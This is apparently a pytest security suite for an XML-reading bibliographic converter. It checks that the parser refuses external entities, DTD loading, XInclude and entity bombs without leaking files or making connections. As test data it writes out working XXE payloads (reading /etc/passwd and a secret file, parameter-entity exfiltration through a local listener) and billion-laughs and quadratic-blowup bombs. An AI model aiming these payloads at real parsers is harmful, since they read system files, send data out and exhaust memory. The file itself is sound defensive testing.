"""Hostile XML: external entities, entity expansion, DTDs, XInclude and the network.

Each attack is run against the parser factory itself and against every registered format that
reads XML, through the public API and the command line. Nothing a document points at may end up
in any output, no connection may be made, and entity bombs are refused fast in bounded memory.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import textwrap
import urllib.request
from pathlib import Path

import pytest
from lxml import etree
from secutil import ROOTS, XML_DOCS, closed_port, document, listening, xml_formats

import biblioconv
from biblioconv import xmlsafe
from biblioconv.cli import main as cli_main
from biblioconv.errors import LimitExceeded, ParseError, UnsafeInputError
from biblioconv.registry import Limits
from biblioconv.report import ConversionReport

MARKER = "S3CRET-MARKER-7f1c2e"
PASSWD_SIGN = "root:x:0:0"
FORMATS = xml_formats()


@pytest.fixture(scope="module")
def secret(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A local file whose content must never appear anywhere."""
    path = tmp_path_factory.mktemp("secret") / "secret.txt"
    path.write_text(MARKER + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def evil_dtd(tmp_path_factory: pytest.TempPathFactory, secret: Path) -> Path:
    """An external DTD that would define an entity pulling in the secret file."""
    path = tmp_path_factory.mktemp("dtd") / "evil.dtd"
    path.write_text(f'<!ENTITY x SYSTEM "{secret.as_uri()}">\n', encoding="utf-8")
    return path


def test_every_xml_format_has_a_document() -> None:
    """Each XML-reading format must be covered by the attack documents below."""
    assert set(FORMATS) >= {"dc", "dcterms"}
    missing = [f for f in FORMATS if f not in XML_DOCS]
    assert not missing, f"add a minimal document for {missing} to secutil.XML_DOCS"


@pytest.mark.parametrize("fmt", FORMATS)
def test_template_reads_cleanly(fmt: str) -> None:
    """The attack documents are real documents of their format: without an attack they read."""
    records = biblioconv.loads(document(fmt, title="A safe title"), fmt)
    assert [r.title for r in records] == ["A safe title"]


# -- attacks --------------------------------------------------------------------------------------


def _attacks(secret: Path, evil_dtd: Path, port: int, root: str) -> dict[str, tuple[str, str]]:
    """name -> (prolog, title content). Every one of these declares entities or a DTD subset."""
    uri = secret.as_uri()
    pad = "<!--" + "p" * 70_000 + "-->"
    return {
        "external-entity-file": (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{uri}">]>', "&x;"),
        "external-entity-passwd": (
            f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            "&x;",
        ),
        "external-entity-network": (
            f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">]>',
            "&x;",
        ),
        "parameter-entity": (f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{uri}"> %p;]>', "t"),
        "parameter-entity-exfiltration": (
            f'<!DOCTYPE {root} [<!ENTITY % file SYSTEM "{uri}">'
            f'<!ENTITY % dtd SYSTEM "http://127.0.0.1:{port}/evil.dtd"> %dtd;]>',
            "&send;",
        ),
        "external-dtd-in-subset": (
            f'<!DOCTYPE {root} [<!ENTITY % d SYSTEM "{evil_dtd.as_uri()}"> %d;]>',
            "&x;",
        ),
        "internal-entity-in-attribute": (
            f'<!DOCTYPE {root} [<!ENTITY x "internal">]>',
            '<x a="&x;"/>',
        ),
        "padded-past-head": (pad + f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{uri}">]>', "&x;"),
    }


def _outcome(data: bytes, fmt: str) -> tuple[str, str]:
    """Read through the API: ('records' or the error's class, everything that came out)."""
    report = ConversionReport()
    try:
        records = list(biblioconv.read(data, fmt, report=report))
    except ParseError as exc:
        return type(exc).__name__, str(exc) + report.model_dump_json()
    dumped = "".join(r.model_dump_json() for r in records) + report.model_dump_json()
    writes = biblioconv.registry.get(fmt).can_write  # some XML formats are read only
    for target in ("record-json", "csl-json", *([fmt] if writes else [])):
        dumped += biblioconv.dumps(records, target)
    return "records", dumped


@pytest.mark.parametrize("fmt", FORMATS)
def test_entity_declarations_are_refused_and_never_leak(
    fmt: str, secret: Path, evil_dtd: Path
) -> None:
    with listening() as listener:
        for name, (prolog, title) in _attacks(secret, evil_dtd, listener.port, ROOTS[fmt]).items():
            data = document(fmt, prolog=prolog, title=title).encode("utf-8")
            kind, out = _outcome(data, fmt)
            assert kind != "records", f"{fmt}/{name}: a document declaring entities was read"
            assert MARKER not in out and PASSWD_SIGN not in out, f"{fmt}/{name} leaked"
    assert listener.connections == [], f"{fmt}: connections were made"


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_entity_declarations_are_refused_in_any_encoding(
    fmt: str, encoding: str, secret: Path
) -> None:
    prolog = f'<!DOCTYPE {ROOTS[fmt]} [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    text = document(fmt, prolog=prolog, title="&x;")
    if encoding.startswith("utf-16"):
        text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    kind, out = _outcome(text.encode(encoding), fmt)
    assert kind != "records"
    assert MARKER not in out


@pytest.mark.parametrize("fmt", FORMATS)
def test_external_dtd_is_not_loaded(fmt: str, evil_dtd: Path) -> None:
    """A DOCTYPE naming an external DTD (file or network) is read without loading it."""
    with listening() as listener:
        for system in (evil_dtd.as_uri(), f"http://127.0.0.1:{listener.port}/x.dtd"):
            for decl in (f'SYSTEM "{system}"', f'PUBLIC "-//EXAMPLE//DTD X//EN" "{system}"'):
                prolog = f"<!DOCTYPE {ROOTS[fmt]} {decl}>"
                # without the DTD the entity is undefined: an error, or a record without it
                _, out = _outcome(document(fmt, prolog=prolog, title="&x;").encode(), fmt)
                assert MARKER not in out
                assert "LEAKED-BY-NETWORK" not in out
                records = biblioconv.loads(document(fmt, prolog=prolog, title="Plain"), fmt)
                assert [r.title for r in records] == ["Plain"]
    assert listener.connections == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_xinclude_is_not_processed(fmt: str, secret: Path) -> None:
    with listening() as listener:
        for href in (secret.as_uri(), f"http://127.0.0.1:{listener.port}/inc"):
            title = (
                'Before <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                f'href="{href}" parse="text"/>'
            )
            _, out = _outcome(document(fmt, title=title).encode(), fmt)
            assert MARKER not in out
            assert "LEAKED-BY-NETWORK" not in out
    assert listener.connections == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_unreachable_references_do_not_hang_or_fail(fmt: str) -> None:
    """References to a closed local port are neither followed nor waited for."""
    port = closed_port()
    prolog = f'<!DOCTYPE {ROOTS[fmt]} SYSTEM "http://127.0.0.1:{port}/x.dtd">'
    title = (
        'T<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="http://127.0.0.1:{port}/inc"/>'
    )
    records = biblioconv.loads(document(fmt, prolog=prolog, title=title), fmt)
    assert len(records) == 1


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_utf16_and_bom_documents_read(fmt: str, encoding: str) -> None:
    text = document(fmt, title="Ünïcödé title ✓")
    if encoding.startswith("utf-16"):
        text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    plain = biblioconv.loads(document(fmt, title="Ünïcödé title ✓").encode("utf-8"), fmt)
    other = biblioconv.loads(text.encode(encoding), fmt)
    assert [r.title for r in other] == ["Ünïcödé title ✓"]
    assert [r.model_dump() for r in other] == [r.model_dump() for r in plain]


@pytest.mark.parametrize("fmt", FORMATS)
def test_cli_refuses_with_one_line_and_no_output(
    fmt: str, secret: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    prolog = f'<!DOCTYPE {ROOTS[fmt]} [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    src = tmp_path / "hostile.xml"
    src.write_text(document(fmt, prolog=prolog, title="&x;"), encoding="utf-8")
    out = tmp_path / "out.json"
    code = cli_main(["convert", str(src), "-f", fmt, "-t", "csl-json", "-o", str(out), "-q"])
    captured = capsys.readouterr()
    assert code == 1
    lines = captured.err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("biblioconv: error: "), captured.err
    assert "unsafe" in lines[0] or "entit" in lines[0].lower()
    assert str(src) in lines[0]
    assert MARKER not in captured.err + captured.out
    assert not out.exists()
    assert list(tmp_path.iterdir()) == [src]


# -- the parser factory itself --------------------------------------------------------------------


def _parse_all(data: bytes) -> list[tuple[str, str]]:
    return [
        (str(el.tag), (el.text or "") + "".join(el.attrib.values()))
        for _, el in xmlsafe.iterparse(io.BytesIO(data), source="doc.xml")
    ]


@pytest.mark.parametrize(
    "data",
    [
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><r/>',
        b'<!DOCTYPE r [<!ENTITY x "in attribute">]><r a="&x;"/>',
        b"<!DOCTYPE r [<!ELEMENT r ANY>]><r/>",
        b'<?xml version="1.0"?><!-- c --><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>',
        b'<?xml version="1.0"?><!--' + b"x" * 80_000 + b'--><!DOCTYPE r [<!ENTITY x "y">]><r/>',
        b"<?xml version='1.0'?>"
        + b"<?pi "
        + b"x" * 70_000
        + b"?><!DOCTYPE r [<!ENTITY x 'y'>]><r/>",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'.encode("utf-16-be"),
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'.encode("utf-16-le"),
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r/>'.encode(
            "utf-16"
        ),
    ],
    ids=[
        "external",
        "parameter",
        "attribute",
        "internal-subset",
        "after-comment",
        "after-long-comment",
        "after-long-pi",
        "utf16be-no-bom",
        "utf16le-no-bom",
        "utf16-bom",
    ],
)
def test_factory_refuses_declarations(data: bytes) -> None:
    with pytest.raises(UnsafeInputError) as err:
        _parse_all(data)
    assert "refused as unsafe" in str(err.value)
    assert str(err.value).startswith("doc.xml")
    with pytest.raises(UnsafeInputError):
        xmlsafe.fromstring(data, source="doc.xml")


def test_factory_reads_documents_that_only_mention_entities() -> None:
    """``<!ENTITY`` in a comment or CDATA section of the body is text, not a declaration."""
    data = b"<r><!-- <!ENTITY x 'y'> --><t><![CDATA[<!DOCTYPE a [<!ENTITY b 'c'>]>]]></t></r>"
    assert _parse_all(data) == [("t", "<!DOCTYPE a [<!ENTITY b 'c'>]>"), ("r", "")]
    assert xmlsafe.fromstring(data, source="d").findtext("t") == "<!DOCTYPE a [<!ENTITY b 'c'>]>"


def test_factory_does_not_fetch(secret: Path) -> None:
    with listening() as listener:
        url = f"http://127.0.0.1:{listener.port}"
        docs = [
            f'<!DOCTYPE r SYSTEM "{url}/a.dtd"><r>x</r>'.encode(),
            f'<!DOCTYPE r PUBLIC "-//A//B" "{url}/b.dtd"><r>x</r>'.encode(),
            (
                f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}/c"/>'
                f'<xi:include href="{secret.as_uri()}" parse="text"/></r>'
            ).encode(),
            (
                '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                f'xsi:noNamespaceSchemaLocation="{url}/s.xsd">x</r>'
            ).encode(),
        ]
        for data in docs:
            parsed = _parse_all(data)
            assert parsed[-1][0] == "r"
            assert MARKER not in repr(parsed)
            root = xmlsafe.fromstring(data, source="d")
            assert MARKER not in etree.tostring(root, encoding="unicode")
            etree.fromstring(data, xmlsafe.parser())
    assert listener.connections == []


def test_parser_refuses_unsafe_overrides() -> None:
    for key, value in [
        ("resolve_entities", True),
        ("no_network", False),
        ("load_dtd", True),
        ("dtd_validation", True),
        ("huge_tree", True),
        ("xinclude", True),
        ("attribute_defaults", True),
    ]:
        with pytest.raises(ValueError, match=key):
            xmlsafe.parser(**{key: value})
    assert xmlsafe.parser(remove_blank_text=True) is not None


def test_parser_does_not_expand_entities() -> None:
    data = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    root = etree.fromstring(data, xmlsafe.parser())
    assert PASSWD_SIGN not in etree.tostring(root, encoding="unicode")


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "latin-1"]
)
def test_factory_reads_every_encoding(encoding: str) -> None:
    decl = {"utf-8": "UTF-8", "utf-8-sig": "UTF-8", "latin-1": "ISO-8859-1"}.get(encoding, "UTF-16")
    text = f'<?xml version="1.0" encoding="{decl}"?>\n<r a="é">Ünïcödé</r>'
    assert _parse_all(text.encode(encoding)) == [("r", "Ünïcödéé")]


def test_depth_and_text_limits() -> None:
    deep = b"<a>" * 300 + b"</a>" * 300
    with pytest.raises(LimitExceeded, match="deeper than 256"):
        _parse_all(deep)
    with pytest.raises(LimitExceeded, match="deeper than 10"):
        list(xmlsafe.iterparse(io.BytesIO(b"<a>" * 11 + b"</a>" * 11), source="d", max_depth=10))
    assert (
        len(
            list(
                xmlsafe.iterparse(io.BytesIO(b"<a>" * 10 + b"</a>" * 10), source="d", max_depth=10)
            )
        )
        == 10
    )
    with pytest.raises(LimitExceeded, match="deep"):
        xmlsafe.fromstring(b"<a>" * 257 + b"</a>" * 257, source="d")
    big = b"<r><t>" + b"x" * 2001 + b"</t></r>"
    with pytest.raises(LimitExceeded, match=r"<t> has 2,001 characters"):
        list(xmlsafe.iterparse(io.BytesIO(big), source="d", max_text=2000))
    attr = b'<r a="' + b"x" * 2001 + b'"/>'
    with pytest.raises(LimitExceeded, match="attribute a"):
        xmlsafe.fromstring(attr, source="d", max_text=2000)
    assert len(list(xmlsafe.iterparse(io.BytesIO(big), source="d", max_text=2001))) == 2


def test_syntax_errors_name_the_line() -> None:
    with pytest.raises(ParseError) as err:
        _parse_all(b"<r>\n<a>\n</b></r>")
    assert err.value.line == 3
    assert str(err.value).startswith("doc.xml:3: XML syntax error")


# -- entity bombs: time and memory, measured in a fresh process ------------------------------------

_BOMB_SCRIPT = textwrap.dedent(
    r"""
    import io, json, resource, sys, time
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
    import warnings; warnings.simplefilter("ignore")
    import biblioconv
    from biblioconv import xmlsafe
    from biblioconv.errors import BiblioconvError
    docs = json.loads(sys.stdin.read())

    def rss():
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024

    def run(fmt, data):
        if fmt == "xmlsafe":
            for _ in xmlsafe.iterparse(io.BytesIO(data), source="bomb.xml"):
                pass
        else:
            for _ in biblioconv.read(data, fmt):
                pass

    for fmt, warm in docs["warm"].items():
        list(biblioconv.read(warm.encode(), fmt))
    results = []
    for fmt, name, text, enc in docs["bombs"]:
        data = text.encode(enc)
        before = rss(); t0 = time.perf_counter()
        try:
            run(fmt, data)
            outcome = "read"
        except BiblioconvError as exc:
            outcome = type(exc).__name__
        except MemoryError:
            outcome = "MemoryError"
        results.append({"fmt": fmt, "name": name, "outcome": outcome,
                        "seconds": time.perf_counter() - t0, "grew": rss() - before})
    print(json.dumps(results))
    """
)


def _bombs(root: str) -> dict[str, str]:
    lol = (
        '<!ENTITY a "'
        + "lol" * 10
        + '">'
        + "".join(
            f'<!ENTITY a{i} "{("&a;" if i == 1 else f"&a{i - 1};") * 10}">' for i in range(1, 11)
        )
    )
    big = "x" * 200_000
    pe = '<!ENTITY % p0 "lol">' + "".join(
        f'<!ENTITY % p{i} "{f"%p{i - 1};" * 10}">' for i in range(1, 10)
    )
    pad = "<!--" + "p" * 70_000 + "-->"
    return {
        "billion-laughs": f"<!DOCTYPE {root} [{lol}]>",
        "billion-laughs-padded": pad + f"<!DOCTYPE {root} [{lol}]>",
        "quadratic-blowup": f'<!DOCTYPE {root} [<!ENTITY a "{big}">]>',
        "parameter-laughs": f"<!DOCTYPE {root} [{pe} %p9;]>",
    }


def test_entity_bombs_refused_fast_in_bounded_memory() -> None:
    bombs: list[tuple[str, str, str, str]] = []
    for name, prolog in _bombs("r").items():
        ref = "&a;" * 5000 if "quadratic" in name else ("" if "parameter" in name else "&a10;")
        bombs.append(
            ("xmlsafe", name, f'<?xml version="1.0"?>{prolog}<r a="{ref}">{ref}</r>', "utf-8")
        )
    for fmt in FORMATS:
        for name, prolog in _bombs(ROOTS[fmt]).items():
            ref = "&a;" * 5000 if "quadratic" in name else ("t" if "parameter" in name else "&a10;")
            text = document(fmt, prolog=prolog, title=ref)
            bombs.append((fmt, name, text, "utf-8"))
            if name == "billion-laughs":
                text16 = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
                bombs.append((fmt, name + "-utf16", text16, "utf-16"))
    warm = {fmt: document(fmt) for fmt in FORMATS}
    proc = subprocess.run(
        [sys.executable, "-c", _BOMB_SCRIPT],
        input=json.dumps({"bombs": bombs, "warm": warm}),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    results = json.loads(proc.stdout)
    assert len(results) == len(bombs)
    for r in results:
        label = f"{r['fmt']}/{r['name']}"
        assert r["outcome"] in ("UnsafeInputError", "ParseError", "LimitExceeded"), label
        assert r["seconds"] < 1.0, f"{label}: {r['seconds']:.2f} s"
        assert r["grew"] < 64 * 1024 * 1024, f"{label}: memory grew by {r['grew']:,} bytes"
    # the factory itself names the attack
    assert {r["outcome"] for r in results if r["fmt"] == "xmlsafe"} == {"UnsafeInputError"}


def test_the_attacks_work_against_an_unsafe_parser(secret: Path, evil_dtd: Path) -> None:
    """Control: the attack documents and the listener are real; a careless parser is caught."""
    unsafe = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False)
    with listening() as listener:
        attacks = _attacks(secret, evil_dtd, listener.port, "r")
        for name in ("external-entity-file", "external-dtd-in-subset"):
            prolog, title = attacks[name]
            root = etree.fromstring(f"{prolog}<r>{title}</r>".encode(), unsafe)
            assert MARKER in etree.tostring(root, encoding="unicode"), name
        # libxml2 builds without HTTP support cannot fetch at all: prove the listener with urllib
        with urllib.request.urlopen(f"http://127.0.0.1:{listener.port}/x", timeout=5) as resp:
            assert resp.read() == b"LEAKED-BY-NETWORK"
    assert listener.connections and listener.connections[0].startswith(b"GET /x")


@pytest.mark.parametrize("fmt", FORMATS)
def test_validation_refuses_hostile_documents(fmt: str, secret: Path) -> None:
    """``biblioconv validate`` parses user XML too: it reports a problem and leaks nothing."""
    from biblioconv import validation

    for prolog, title in [
        (f'<!DOCTYPE {ROOTS[fmt]} [<!ENTITY x SYSTEM "{secret.as_uri()}">]>', "&x;"),
        (f'<!DOCTYPE {ROOTS[fmt]} [<!ENTITY x "internal">]>', '<x a="&x;"/>'),
    ]:
        data = document(fmt, prolog=prolog, title=title).encode("utf-8")
        try:
            problems = [str(p) for p in validation.validate(data, fmt)]
        except ParseError as exc:
            problems = [str(exc)]
        assert problems, "a document declaring entities was found valid"
        assert MARKER not in "".join(problems)


def test_record_size_limit_with_record_tags() -> None:
    doc = (
        b"<list>"
        + b'<rec a="12345"><t>'
        + b"x" * 40
        + b"</t><t>"
        + b"y" * 40
        + b"</t></rec>"
        + b"<other>"
        + b"z" * 500
        + b"</other>"
        + b"<rec><t>short</t></rec>"
        + b"</list>"
    )
    limits = Limits(max_record_bytes=85)

    def tags(data: bytes, lim: Limits) -> list[str]:
        return [
            str(el.tag)
            for _, el in xmlsafe.iterparse(
                io.BytesIO(data), source="d.xml", limits=lim, record_tags=["rec"]
            )
        ]

    # 5 + 40 + 40 characters fit; text outside records does not count
    assert tags(doc, limits).count("rec") == 2
    with pytest.raises(LimitExceeded, match="record holds more than 84 characters") as err:
        tags(doc, Limits(max_record_bytes=84))
    assert err.value.line == 1
    # without record tags the record limit does not apply
    assert (
        len(list(xmlsafe.iterparse(io.BytesIO(doc), source="d", limits=Limits(max_record_bytes=1))))
        == 7
    )
